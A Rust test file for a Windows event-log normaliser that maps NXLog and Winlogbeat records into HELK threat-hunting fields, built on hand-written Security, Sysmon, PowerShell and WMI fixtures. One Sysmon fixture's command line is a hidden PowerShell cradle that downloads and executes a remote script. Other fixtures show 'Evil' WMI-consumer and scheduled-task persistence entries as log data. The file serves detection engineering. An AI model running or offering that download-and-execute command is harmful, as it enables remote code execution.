//! End-to-end tests on small hand-written records shaped like NXLog and Winlogbeat 6 output.

use std::path::Path;
use std::sync::OnceLock;

use serde_json::{Map, Value, json};

use crate::{EMBEDDED, MappingError, Normaliser};

fn helk() -> &'static Normaliser {
    static HELK: OnceLock<Normaliser> = OnceLock::new();
    HELK.get_or_init(|| Normaliser::embedded().expect("the embedded mapping files load"))
}

fn obj(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        other => panic!("not an object: {other}"),
    }
}

fn run(v: Value) -> (String, Map<String, Value>) {
    let (table, record) = helk().normalise(obj(v));
    (table.to_string(), record)
}

fn security_4624_nxlog() -> Value {
    serde_json::from_str(
        r#"{
        "EventTime": "2020-05-02 02:55:56", "Hostname": "WORKSTATION5.theshire.local",
        "Keywords": -9214364837600034816, "EventType": "AUDIT_SUCCESS", "SeverityValue": 2, "Severity": "INFO",
        "EventID": 4624, "SourceName": "Microsoft-Windows-Security-Auditing",
        "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Version": 2, "Task": 12544, "OpcodeValue": 0,
        "RecordNumber": 160398, "ProcessID": 732, "ThreadID": 3624, "Channel": "Security",
        "Message": "An account was successfully logged on.", "Category": "Logon", "Opcode": "Info",
        "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
        "TargetUserSid": "S-1-5-21-3876284424-1346738233-1372427563-1104", "TargetUserName": "pgustavo",
        "TargetDomainName": "THESHIRE", "TargetLogonId": "0x3e8a1f2", "LogonType": "3",
        "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos", "WorkstationName": "-",
        "LogonGuid": "{5C5D0A30-3C34-1B1F-4F4F-0C4D5C2A1B3E}", "TransmittedServices": "-", "LmPackageName": "-",
        "KeyLength": "0", "ProcessId": "0x0", "ProcessName": "-", "IpAddress": "172.18.39.5", "IpPort": "50019",
        "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "TargetOutboundUserName": "-",
        "TargetOutboundDomainName": "-", "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0",
        "ElevatedToken": "%%1842", "EventReceivedTime": "2020-05-02 02:55:57", "SourceModuleName": "eventlog",
        "SourceModuleType": "im_msvistalog"
    }"#,
    )
    .unwrap()
}

/// The event fields of a Sysmon 1 event, as NXLog and Winlogbeat both give them.
fn sysmon_1_event_data() -> Map<String, Value> {
    obj(json!({
        "RuleName": "technique_id=T1086,technique_name=PowerShell",
        "UtcTime": "2020-05-02 02:55:56.157",
        "ProcessGuid": "{39e4a257-e0dc-5eac-8d03-000000000400}",
        "ProcessId": "5972",
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "FileVersion": "10.0.18362.1 (WinBuild.160101.0800)",
        "Description": "Windows PowerShell",
        "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": "PowerShell.EXE",
        "CommandLine": "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.10.105/a')\"",
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": "THESHIRE\\pgustavo",
        "LogonGuid": "{39e4a257-d3a6-5eac-f2a1-e80300000000}",
        "LogonId": "0x3e8a1f2",
        "TerminalSessionId": "0",
        "IntegrityLevel": "High",
        "Hashes": "SHA1=36C5D12033B2EAF251BAE61C00690FFB17FDDC87,MD5=CDA48FC75952AD12D99E526D0B6BF70A,IMPHASH=741776AACCFC5B71FF59832DCDCACE0F",
        "ParentProcessGuid": "{39e4a257-e0d9-5eac-8a03-000000000400}",
        "ParentProcessId": "4648",
        "ParentImage": "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "ParentCommandLine": "C:\\windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"
    }))
}

fn sysmon_1_nxlog() -> Value {
    let mut r = obj(json!({
        "EventTime": "2020-05-02 02:55:56", "Hostname": "WORKSTATION5.theshire.local",
        "Keywords": -9223372036854775808i64, "EventType": "INFO", "SeverityValue": 2, "Severity": "INFO",
        "EventID": 1, "SourceName": "Microsoft-Windows-Sysmon",
        "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "Version": 5, "Task": 1, "OpcodeValue": 0,
        "RecordNumber": 2839434, "ProcessID": 3004, "ThreadID": 4028,
        "Channel": "Microsoft-Windows-Sysmon/Operational", "Domain": "NT AUTHORITY", "AccountName": "SYSTEM",
        "UserID": "S-1-5-18", "AccountType": "User", "Message": "Process Create:",
        "Category": "Process Create (rule: ProcessCreate)", "Opcode": "Info",
        "EventReceivedTime": "2020-05-02 02:55:57", "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog"
    }));
    r.extend(sysmon_1_event_data());
    Value::Object(r)
}

fn sysmon_1_winlogbeat() -> Value {
    json!({
        "@timestamp": "2020-05-02T02:55:56.157Z",
        "beat": {"hostname": "WORKSTATION5", "name": "WORKSTATION5", "version": "6.8.9"},
        "computer_name": "WORKSTATION5.theshire.local",
        "event_data": Value::Object(sysmon_1_event_data()),
        "event_id": 1,
        "host": {"name": "WORKSTATION5"},
        "level": "Information",
        "log_name": "Microsoft-Windows-Sysmon/Operational",
        "message": "Process Create:",
        "opcode": "Info",
        "process_id": 3004,
        "provider_guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "record_number": "2839434",
        "source_name": "Microsoft-Windows-Sysmon",
        "task": "Process Create (rule: ProcessCreate)",
        "thread_id": 4028,
        "type": "wineventlog",
        "user": {"domain": "NT AUTHORITY", "identifier": "S-1-5-18", "name": "SYSTEM", "type": "User"},
        "version": 5
    })
}

#[test]
fn every_embedded_file_loads_and_matches_the_mappings_directory() {
    let n = Normaliser::embedded().expect("embedded mappings load");
    assert_eq!(n.mappings().sources.len(), EMBEDDED.len() - 1);
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("mappings");
    let mut on_disk: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".toml"))
        .collect();
    on_disk.sort();
    let mut embedded: Vec<String> = EMBEDDED.iter().map(|(n, _)| n.to_string()).collect();
    embedded.sort();
    assert_eq!(on_disk, embedded, "EMBEDDED must list every file of mappings/");
    for (name, text) in EMBEDDED {
        assert_eq!(std::fs::read_to_string(dir.join(name)).unwrap(), *text);
    }
    let from_dir = Normaliser::from_dir(&dir).expect("the mappings directory loads");
    let (mut a, mut b) = (from_dir.tables(), n.tables());
    a.sort_unstable();
    b.sort_unstable();
    assert_eq!(a, b, "the directory gives the same tables as the embedded files");
    assert_eq!(
        n.tables(),
        [
            "logs-endpoint-winevent-sysmon",
            "logs-endpoint-winevent-security",
            "logs-endpoint-winevent-system",
            "logs-endpoint-winevent-application",
            "logs-endpoint-winevent-powershell",
            "logs-endpoint-winevent-wmiactivity",
            "logs-endpoint-winevent-additional",
        ]
    );
}

#[test]
fn file_order_is_kept() {
    let common = &helk().mappings().common;
    let first: Vec<&str> = common.rename.iter().take(3).map(|(k, _)| k).collect();
    assert_eq!(first, ["SourceIp", "DestinationIp", "IpAddress"]);
}

#[test]
fn security_4624_nxlog_flat() {
    let (table, r) = run(security_4624_nxlog());
    assert_eq!(table, "logs-endpoint-winevent-security");
    assert_eq!(r["event_id"], 4624);
    assert_eq!(r["user_logon_id"], 65577458);
    assert_eq!(r["user_name"], "pgustavo");
    assert_eq!(r["user_domain"], "theshire", "TargetDomainName is lower-cased before renaming");
    assert_eq!(r["logon_type"], "3");
    assert_eq!(r["src_ip_addr"], "172.18.39.5");
    assert_eq!(r["src_original_value"], "172.18.39.5");
    assert_eq!(r["src_port"], "50019");
    assert_eq!(r["host_name"], "workstation5.theshire.local");
    assert_eq!(r["log_name"], "Security");
    assert_eq!(r["reporter_logon_id"], 0);
    assert_eq!(r["process_id"], 0);
    assert_eq!(r["process_id_orig"], "0x0");
    assert_eq!(r["ProcessID"], 732, "the header process id loses to ProcessId and keeps its name");
    assert_eq!(r["logon_process_name"], "kerberos");
    assert_eq!(r["impersonation_level_value"], "Impersonation");
    assert_eq!(r["logon_elevated_token_value"], "Yes");
    assert_eq!(r["logon_virtual_account_value"], "No");
    assert_eq!(r["user_logon_guid"], "5C5D0A30-3C34-1B1F-4F4F-0C4D5C2A1B3E");
    assert_eq!(r["provider_guid"], "54849625-5478-4994-A5BA-3E3B0328C30D");
    assert_eq!(r["event_original_time"], "2020-05-02T02:55:56Z");
    for gone in ["SubjectUserName", "WorkstationName", "ProcessName", "TargetLogonId", "IpAddress", "Hostname", "EventID"] {
        assert!(!r.contains_key(gone), "{gone} should be gone: {r:?}");
    }
    assert!(!r.contains_key("user_reporter_name"), "\"-\" SubjectUserName is dropped");
    assert!(r.values().all(|v| v != "-"));
}

#[test]
fn security_4624_winlogbeat_nested_gives_the_same_fields() {
    let flat = obj(security_4624_nxlog());
    let header = ["EventTime", "Hostname", "Keywords", "EventType", "SeverityValue", "Severity", "EventID", "SourceName",
        "ProviderGuid", "Version", "Task", "OpcodeValue", "RecordNumber", "ProcessID", "ThreadID", "Channel", "Message",
        "Category", "Opcode", "EventReceivedTime", "SourceModuleName", "SourceModuleType"];
    let event_data: Map<String, Value> = flat.into_iter().filter(|(k, _)| !header.contains(&k.as_str())).collect();
    let nested = json!({
        "@timestamp": "2020-05-02T02:55:56.000Z", "computer_name": "WORKSTATION5.theshire.local",
        "event_data": event_data, "event_id": 4624, "log_name": "Security", "process_id": 732,
        "source_name": "Microsoft-Windows-Security-Auditing", "type": "wineventlog",
        "beat": {"hostname": "WORKSTATION5", "name": "WORKSTATION5", "version": "6.8.9"},
        "user": {"identifier": "S-1-5-18"}
    });
    let (table, r) = run(nested);
    assert_eq!(table, "logs-endpoint-winevent-security");
    assert_eq!(r["@timestamp"], "2020-05-02T02:55:56.000Z", "@timestamp is kept");
    assert_eq!(r["user_logon_id"], 65577458);
    assert_eq!(r["user_name"], "pgustavo");
    assert_eq!(r["logon_type"], "3");
    assert_eq!(r["src_ip_addr"], "172.18.39.5");
    assert_eq!(r["host_name"], "workstation5.theshire.local");
    assert_eq!(r["event_id"], 4624);
    assert_eq!(r["process_id"], 0);
    assert_eq!(r["header.process_id"], 732, "the header process_id loses to ProcessId and is kept");
    assert_eq!(r["beat_hostname"], "WORKSTATION5");
    assert!(!r.contains_key("beat"), "a fully renamed header object disappears");
    assert_eq!(r["user"], json!({"identifier": "S-1-5-18"}), "Security does not rename user.*: it stays nested");
    assert!(!r.contains_key("event_data"));
}

#[test]
fn sysmon_1_both_shapes_give_the_same_helk_fields() {
    let (t1, flat) = run(sysmon_1_nxlog());
    let (t2, nested) = run(sysmon_1_winlogbeat());
    assert_eq!(t1, "logs-endpoint-winevent-sysmon");
    assert_eq!(t2, t1);
    for r in [&flat, &nested] {
        assert_eq!(r["process_parent_name"], "wmiprvse.exe");
        assert_eq!(r["process_name"], "powershell.exe");
        assert_eq!(r["process_path"], "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe");
        assert_eq!(r["process_guid"], "39e4a257-e0dc-5eac-8d03-000000000400");
        assert_eq!(r["process_parent_guid"], "39e4a257-e0d9-5eac-8a03-000000000400");
        assert_eq!(r["user_logon_id"], 65577458);
        assert_eq!(r["user_domain"], "theshire");
        assert_eq!(r["user_name"], "pgustavo");
        assert_eq!(r["user_account"], "theshire\\pgustavo");
        assert_eq!(r["action"], "processcreate");
        assert_eq!(r["event_id"], 1);
        assert_eq!(r["process_id"], "5972");
        assert_eq!(r["process_parent_id"], "4648");
        assert_eq!(r["hash_sha1"], "36C5D12033B2EAF251BAE61C00690FFB17FDDC87");
        assert_eq!(r["rule_technique_id"], "T1086");
        assert_eq!(r["user_reporter_sid"], "S-1-5-18");
        assert_eq!(r["event_original_time"], "2020-05-02T02:55:56.157Z");
        assert_eq!(r["event_timezone"], "UTC");
        assert_eq!(r["file_name_original"], "PowerShell.EXE");
        assert!(r["process_command_line"].as_str().unwrap().starts_with("powershell.exe -nop -w hidden"));
        assert!(!r.contains_key("Hashes"));
    }
    let helk_fields = |r: &Map<String, Value>| -> Vec<(String, Value)> {
        r.iter()
            .filter(|(k, _)| {
                k.starts_with("process_")
                    || k.starts_with("user_") && *k != "user_reporter_name" && *k != "user_reporter_domain" && *k != "user_reporter_type"
                    || k.starts_with("file_")
                    || k.starts_with("hash_")
                    || k.starts_with("rule_")
                    || ["action", "event_id", "host_name", "log_name", "source_name", "event_original_time", "RuleName"]
                        .contains(&k.as_str())
            })
            .map(|(k, v)| (k.clone(), v.clone()))
            .collect()
    };
    assert_eq!(helk_fields(&flat), helk_fields(&nested));
    // the header fields of each shape are kept too
    assert_eq!(flat["ProcessID"], 3004);
    assert_eq!(nested["header.process_id"], 3004);
    assert_eq!(nested["user_reporter_name"], "SYSTEM");
    assert!(!nested.contains_key("user"), "user.* all renamed for Sysmon: the object disappears");
    assert_eq!(nested["@timestamp"], "2020-05-02T02:55:56.157Z");
    assert_eq!(flat["event_recorded_time"], "2020-05-02 02:55:56");
}

#[test]
fn dash_ip_address_is_dropped() {
    let (_, r) = run(json!({
        "Channel": "Security", "EventID": 4625, "IpAddress": "-", "IpPort": "-", "TargetUserName": "bob",
        "Status": "0xC000006D", "SubStatus": "0xc0000064"
    }));
    assert!(!r.contains_key("IpAddress"));
    assert!(!r.contains_key("src_ip_addr"));
    assert!(!r.contains_key("src_original_value"));
    assert!(!r.contains_key("src_port"), "IpPort \"-\" is dropped too");
    assert_eq!(r["user_name"], "bob");
}

#[test]
fn rename_collisions_keep_both_values() {
    // two sources of the same table: the first written wins, the other keeps its name
    let (_, r) = run(json!({
        "Channel": "Security", "EventID": 5447, "SubjectUserName": "alice", "UserName": "bob"
    }));
    assert_eq!(r["user_name"], "alice");
    assert_eq!(r["UserName"], "bob");
    // a field already named like the target, that no rule renames, stays; the source keeps its name
    let (_, r) = run(json!({"Channel": "Security", "EventID": 4624, "TargetUserName": "pgustavo", "user_name": "x"}));
    assert_eq!(r["user_name"], "x");
    assert_eq!(r["TargetUserName"], "pgustavo");
    // event_data field colliding with a top-level field
    let (_, r) = run(json!({
        "log_name": "Application", "event_id": 1000, "source_name": "App", "level": "Error",
        "event_data": {"level": "3", "param1": "x"}
    }));
    assert_eq!(r["level"], "Error");
    assert_eq!(r["event_data.level"], "3");
    assert_eq!(r["param1"], "x");
    // Sysmon 10: SourceThreadId (event) beats the header thread id, which is kept
    let (_, r) = run(json!({
        "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 10, "ThreadID": 4028, "SourceThreadId": "1234",
        "GrantedAccess": "0x1410"
    }));
    assert_eq!(r["thread_id"], "1234");
    assert_eq!(r["ThreadID"], 4028);
    assert_eq!(r["process_granted_access"], 5136);
    assert_eq!(r["process_granted_access_orig"], "0x1410");
}

#[test]
fn unknown_channel_goes_to_additional_with_fields_kept() {
    let (table, r) = run(json!({
        "Channel": "Microsoft-Windows-TaskScheduler/Operational", "EventID": "106", "Hostname": "DC01",
        "TaskName": "\\Evil", "UserContext": "THESHIRE\\pgustavo", "ProcessID": 1100
    }));
    assert_eq!(table, "logs-endpoint-winevent-additional");
    assert_eq!(r["event_id"], 106, "a numeric string event id becomes an integer");
    assert_eq!(r["host_name"], "dc01");
    assert_eq!(r["TaskName"], "\\evil", "TaskName is lower-cased, not renamed");
    assert_eq!(r["UserContext"], "THESHIRE\\pgustavo");
    assert_eq!(r["process_id"], 1100);
    assert_eq!(r["log_name"], "Microsoft-Windows-TaskScheduler/Operational");
    // a channel-conditioned rule of the catch-all file
    let rdp = "Microsoft-Windows-TerminalServices-RDPClient/Operational";
    let (_, r) = run(json!({"Channel": rdp, "EventID": 1024, "Value": "010.0.0.7"}));
    assert_eq!(r["dst_ip_addr"], "10.0.0.7");
    let (_, r) = run(json!({"Channel": "Other", "EventID": 1024, "Value": "010.0.0.7"}));
    assert_eq!(r["Value"], "010.0.0.7");
    assert!(!r.contains_key("dst_ip_addr"));
}

#[test]
fn channels_match_case_insensitively() {
    let (table, r) = run(json!({"Channel": "SECURITY", "EventID": 4624, "TargetLogonId": "0x3e7"}));
    assert_eq!(table, "logs-endpoint-winevent-security");
    assert_eq!(r["user_logon_id"], 999);
    let (table, _) = run(json!({"log_name": "microsoft-windows-sysmon/operational", "event_id": 1}));
    assert_eq!(table, "logs-endpoint-winevent-sysmon");
}

#[test]
fn zeek_record_is_unchanged() {
    let zeek = json!({
        "ts": 1588388156.157, "uid": "CHhAvVGS1DHFjwGM9", "id.orig_h": "172.18.39.5", "id.orig_p": 50019,
        "id.resp_h": "172.18.38.5", "id.resp_p": 88, "proto": "tcp", "service": "krb_tcp", "Image": "C:\\X.EXE",
        "local_orig": true, "history": ["ShADadFf"]
    });
    let (table, r) = run(zeek.clone());
    assert_eq!(table, "events");
    assert_eq!(Value::Object(r), zeek);
}

#[test]
fn powershell_provider_routes_to_the_powershell_index() {
    let (table, r) = run(json!({
        "Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": 4104,
        "SourceName": "Microsoft-Windows-PowerShell", "MessageNumber": "1", "MessageTotal": "1",
        "ScriptBlockText": "Get-Process", "ScriptBlockId": "a5c0b4c2-3c1e-4c42-9d8e-6a3b8a6a7f5e",
        "Path": "C:\\Users\\pgustavo\\x.ps1", "Message": "Creating Scriptblock text (1 of 1):"
    }));
    assert_eq!(table, "logs-endpoint-winevent-powershell");
    assert_eq!(r["powershell.scriptblock.text"], "Get-Process");
    assert_eq!(r["powershell.script.path"], "c:\\users\\pgustavo\\x.ps1");
    assert_eq!(r["message"], "Creating Scriptblock text (1 of 1):", "message is kept");
    // the provider wins over the channel
    let (table, _) = run(json!({"Channel": "Application", "EventID": 400, "SourceName": "PowerShell"}));
    assert_eq!(table, "logs-endpoint-winevent-powershell");
    // 4104 without ScriptBlockText: parsed from the message text
    let (_, r) = run(json!({
        "log_name": "Microsoft-Windows-PowerShell/Operational", "event_id": 4104, "source_name": "Microsoft-Windows-PowerShell",
        "message": "Creating Scriptblock text (2 of 3):\r\nwhoami\r\n\r\nScriptBlock ID: a5c0b4c2-3c1e-4c42-9d8e-6a3b8a6a7f5e\nPath: "
    }));
    assert_eq!(r["powershell.scriptblock.text"], "whoami");
    assert_eq!(r["powershell.scriptblock.message_number"], "2");
    assert!(r.contains_key("message"));
    // 400: param3 key=value lines
    let (_, r) = run(json!({
        "Channel": "Windows PowerShell", "EventID": 400, "SourceName": "PowerShell",
        "param1": "Available", "param2": "None",
        "param3": "\tNewEngineState=Available\n\tPreviousEngineState=None\n\n\tSequenceNumber=13\n\n\tHostName=ConsoleHost\n\tHostApplication=powershell.exe -nop"
    }));
    assert_eq!(r["powershell.host.name"], "ConsoleHost");
    assert_eq!(r["powershell.host.application"], "powershell.exe -nop");
    assert_eq!(r["powershell.newengine_state"], "Available");
    assert!(r.contains_key("param3"), "param3 is kept");
}

#[test]
fn lookups() {
    let (_, r) = run(json!({"Channel": "Security", "EventID": 4625, "Status": "0xC000006D", "SubStatus": "0xdeadbeef"}));
    assert_eq!(r["event_status"], "0xC000006D", "the code is kept");
    assert_eq!(r["event_status_value"], "This is either due to a bad username or authentication information");
    assert_eq!(r["event_sub_status_value"], "Unknown");
    // "when" and "strip": 4662 object_type only for object_server DS
    let (_, r) = run(json!({
        "Channel": "Security", "EventID": 4662, "ObjectServer": "DS",
        "ObjectType": "%{bf967aa5-0de6-11d0-a285-00aa003049e2}"
    }));
    assert_eq!(r["object_type_value"], "Organizational-Unit");
    let (_, r) = run(json!({"Channel": "Security", "EventID": 4662, "ObjectServer": "SAM", "ObjectType": "%{x}"}));
    assert!(!r.contains_key("object_type_value"));
    // overwrite_source and no fallback, in a mapping of one's own
    let helk = Normaliser::from_files([
        ("common.toml", ""),
        (
            "x.toml",
            "index = \"x\"\nchannels = [\"X\"]\n[events.1.lookup.Code]\ntarget = \"code_text\"\noverwrite_source = true\n[events.1.lookup.Code.map]\n\"7\" = \"seven\"\n",
        ),
    ])
    .unwrap();
    let (_, r) = helk.normalise(obj(json!({"Channel": "X", "EventID": 1, "Code": 7})));
    assert_eq!(r["Code"], "seven");
    assert_eq!(r["code_text"], "seven");
    let (_, r) = helk.normalise(obj(json!({"Channel": "X", "EventID": 1, "Code": 8})));
    assert_eq!(r["Code"], 8);
    assert!(!r.contains_key("code_text"));
}

#[test]
fn wmi_activity_user_data_and_user_split() {
    let (table, r) = run(json!({
        "log_name": "Microsoft-Windows-WMI-Activity/Operational", "event_id": 5861,
        "source_name": "Microsoft-Windows-WMI-Activity", "computer_name": "WORKSTATION5",
        "user": {"identifier": "S-1-5-18", "name": "SYSTEM", "domain": "NT AUTHORITY", "type": "Well Known Group"},
        "user_data": {"xml_name": "Operation_ESStoConsumerBinding", "Namespace": "//./root/subscription",
                      "ESS": "Evil", "CONSUMER": "CommandLineEventConsumer=\"Evil\"", "PossibleCause": "Binding"}
    }));
    assert_eq!(table, "logs-endpoint-winevent-wmiactivity");
    assert_eq!(r["wmi_namespace"], "//./root/subscription");
    assert_eq!(r["wmi_xml_operation"], "Operation_ESStoConsumerBinding");
    assert_eq!(r["user_reporter_sid"], "S-1-5-18");
    assert!(!r.contains_key("user_data"));
    let (_, r) = run(json!({"Channel": "Microsoft-Windows-WMI-Activity/Operational", "EventID": 5858, "User": "THESHIRE\\PGustavo"}));
    assert_eq!(r["User"], "theshire\\pgustavo");
    assert_eq!(r["user_domain"], "theshire");
    assert_eq!(r["user_name"], "pgustavo");
}

#[test]
fn bad_mapping_files_are_errors_naming_file_and_key() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("common.toml"), "").unwrap();
    std::fs::write(
        dir.path().join("mine.toml"),
        "index = \"mine\"\nchannels = [\"Mine\"]\n[events.7]\nremove = [\"message\"]\n",
    )
    .unwrap();
    let err = Normaliser::from_dir(dir.path()).unwrap_err().to_string();
    assert!(err.contains("mine.toml") && err.contains("remove"), "{err}");

    std::fs::write(dir.path().join("mine.toml"), "index = \"mine\"\n[all.extract]\nparam1 = { kind = \"json\" }\n").unwrap();
    let err = Normaliser::from_dir(dir.path()).unwrap_err().to_string();
    assert!(err.contains("mine.toml") && err.contains("json"), "{err}");

    std::fs::write(dir.path().join("mine.toml"), "index = \"mine\"\n[all.transform]\nfoo = \"upper\"\n").unwrap();
    let err = Normaliser::from_dir(dir.path()).unwrap_err().to_string();
    assert!(err.contains("mine.toml") && err.contains("upper"), "{err}");

    std::fs::write(dir.path().join("mine.toml"), "index = \"mine\"\n[events.abc.rename]\nA = \"a\"\n").unwrap();
    let err = Normaliser::from_dir(dir.path()).unwrap_err();
    assert!(matches!(&err, MappingError::Invalid { file, key, .. } if file == "mine.toml" && key == "events.abc"), "{err}");

    std::fs::write(dir.path().join("mine.toml"), "index = \"mine\"\n[all.transform]\nWho = \"user\"\n").unwrap();
    let err = Normaliser::from_dir(dir.path()).unwrap_err().to_string();
    assert!(err.contains("mine.toml: all.transform.Who"), "{err}");

    std::fs::write(dir.path().join("mine.toml"), "index = \"mine\"\nchannels = [\"Security\"]\n").unwrap();
    std::fs::write(dir.path().join("other.toml"), "index = \"other\"\nchannels = [\"security\"]\n").unwrap();
    let err = Normaliser::from_dir(dir.path()).unwrap_err().to_string();
    assert!(err.contains("other.toml: channels") && err.contains("mine.toml"), "{err}");

    std::fs::write(dir.path().join("common.toml"), "[rename]\nA = \"a\"\nindex = \"x\"\n[frobnicate]\n").unwrap();
    let err = Normaliser::from_dir(dir.path()).unwrap_err().to_string();
    assert!(err.contains("common.toml") && err.contains("frobnicate"), "{err}");

    std::fs::remove_file(dir.path().join("common.toml")).unwrap();
    assert!(matches!(Normaliser::from_dir(dir.path()), Err(MappingError::MissingCommon { .. })));
}

#[test]
fn a_users_own_mappings_extend_the_embedded_ones() {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in EMBEDDED {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    std::fs::write(
        dir.path().join("taskscheduler.toml"),
        "index = \"logs-endpoint-winevent-taskscheduler\"\nchannels = [\"Microsoft-Windows-TaskScheduler/Operational\"]\n[events.106.rename]\nTaskName = \"scheduled_task_name\"\n",
    )
    .unwrap();
    let helk = Normaliser::from_dir(dir.path()).unwrap();
    let (table, r) = helk.normalise(obj(json!({
        "Channel": "Microsoft-Windows-TaskScheduler/Operational", "EventID": 106, "TaskName": "\\Evil"
    })));
    assert_eq!(&*table, "logs-endpoint-winevent-taskscheduler");
    assert_eq!(r["scheduled_task_name"], "\\evil");
}

#[test]
fn odd_values_never_panic() {
    let odd = [
        json!(null),
        json!(true),
        json!(-1),
        json!(1.5),
        json!(""),
        json!("-"),
        json!("0x"),
        json!("0xZZ"),
        json!("\\"),
        json!("{}"),
        json!("é\\É"),
        json!([1, "a", null]),
        json!({"a": {"b": 1}}),
    ];
    let helk = helk();
    let mut names: Vec<String> = Vec::new();
    let m = helk.mappings();
    names.extend(m.common.header_rename.iter().map(|(k, _)| k.to_owned()));
    names.extend(m.common.rename.iter().map(|(k, _)| k.to_owned()));
    names.extend(m.common.extract.iter().map(|(k, _)| k.to_owned()));
    names.extend(m.common.transform.iter().map(|(k, _)| k.to_owned()));
    for (_, s) in &m.sources {
        names.extend(s.all.rename.iter().map(|(k, _)| k.to_owned()));
        names.extend(s.all.extract.iter().map(|(k, _)| k.to_owned()));
        for (_, e) in s.events.iter() {
            names.extend(e.rename.iter().map(|(k, v)| format!("{k}\u{0}{v}")));
            names.extend(e.extract.iter().map(|(k, _)| k.to_owned()));
            names.extend(e.lookup.iter().map(|(k, _)| k.to_owned()));
        }
    }
    let names: Vec<String> = names.iter().flat_map(|n| n.split('\u{0}').map(str::to_owned).collect::<Vec<_>>()).collect();
    let channels = ["Security", "Microsoft-Windows-Sysmon/Operational", "System", "Windows PowerShell", "Nope"];
    for (i, value) in odd.iter().enumerate() {
        for (j, channel) in channels.iter().enumerate() {
            for id in [1u64, 10, 400, 4103, 4104, 4624, 4625, 4662, 4688, 5447, 7045, 800] {
                let mut r = Map::new();
                for name in &names {
                    r.insert(name.clone(), value.clone());
                }
                r.insert("Channel".into(), json!(channel));
                r.insert("EventID".into(), json!(id));
                r.insert("user".into(), json!({"identifier": value.clone()}));
                r.insert("event_data".into(), if (i + j) % 2 == 0 { json!({"Image": value.clone()}) } else { value.clone() });
                let (table, out) = helk.normalise(r);
                // Odd values change neither where the event goes nor which event it is.
                let plain = obj(json!({"Channel": channel, "EventID": id}));
                assert_eq!(table, helk.normalise(plain).0, "{value} in {channel} {id}");
                assert_eq!(out.get("event_id"), Some(&json!(id)), "{value} in {channel} {id}");
            }
        }
    }
}

#[test]
fn reference_doc_is_current() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/helk-mapping.md");
    let generated = helk().reference_markdown();
    if std::env::var_os("HELA_WRITE_DOCS").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &generated).unwrap();
        return;
    }
    let committed = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        committed == generated,
        "docs/helk-mapping.md differs from Normaliser::reference_markdown(): regenerate it with \
         `HELA_WRITE_DOCS=1 cargo test -p hela-helk`"
    );
}

#[test]
fn reference_lists_the_rules() {
    let md = helk().reference_markdown();
    for needle in [
        "## logs-endpoint-winevent-security",
        "### Event 4624",
        "| `TargetLogonId` | `user_logon_id` |",
        "#### Lookup `impersonation_level` → `impersonation_level_value`",
        "Action: `processcreate`.",
        "| `user_logon_id` | `logon_id` |",
        "#### Copies",
        "Providers: `Microsoft-Windows-PowerShell`, `PowerShell`.",
    ] {
        assert!(md.contains(needle), "missing {needle:?}");
    }
}

/// `cargo test -p hela-helk -- --ignored throughput --nocapture`: the time of normalising 100k
/// records (`HELA_BENCH_RECORDS` to change it) - Security 4624 NXLog, Sysmon 1 NXLog and Sysmon 1
/// Winlogbeat in turn, ~45 fields each - less the time of cloning and dropping them, and for
/// comparison the time of parsing them from JSON.
#[test]
#[ignore = "timing, run by hand"]
fn throughput() {
    let helk = helk();
    let samples = [obj(security_4624_nxlog()), obj(sysmon_1_nxlog()), obj(sysmon_1_winlogbeat())];
    let n: usize = std::env::var("HELA_BENCH_RECORDS").ok().and_then(|n| n.parse().ok()).unwrap_or(100_000);
    let time = |normalise: bool| {
        let start = std::time::Instant::now();
        let mut fields = 0;
        for i in 0..n {
            let r = samples[i % 3].clone();
            fields += if normalise { helk.normalise(r).1.len() } else { r.len() };
        }
        (start.elapsed(), fields)
    };
    let (base, _) = time(false);
    let (all, fields) = time(true);
    println!("{n} records: clone+drop {base:?}, clone+normalise+drop {all:?} ({fields} fields out)");
    println!("normalising {n} records: {:?}", all.saturating_sub(base));
    let texts: Vec<String> = samples.iter().map(|s| serde_json::to_string(s).unwrap()).collect();
    let start = std::time::Instant::now();
    let mut fields = 0;
    for i in 0..n {
        fields += serde_json::from_str::<Map<String, Value>>(&texts[i % 3]).map_or(0, |m| m.len());
    }
    println!("for comparison, parsing the same records from JSON: {:?} ({fields} fields)", start.elapsed());
}

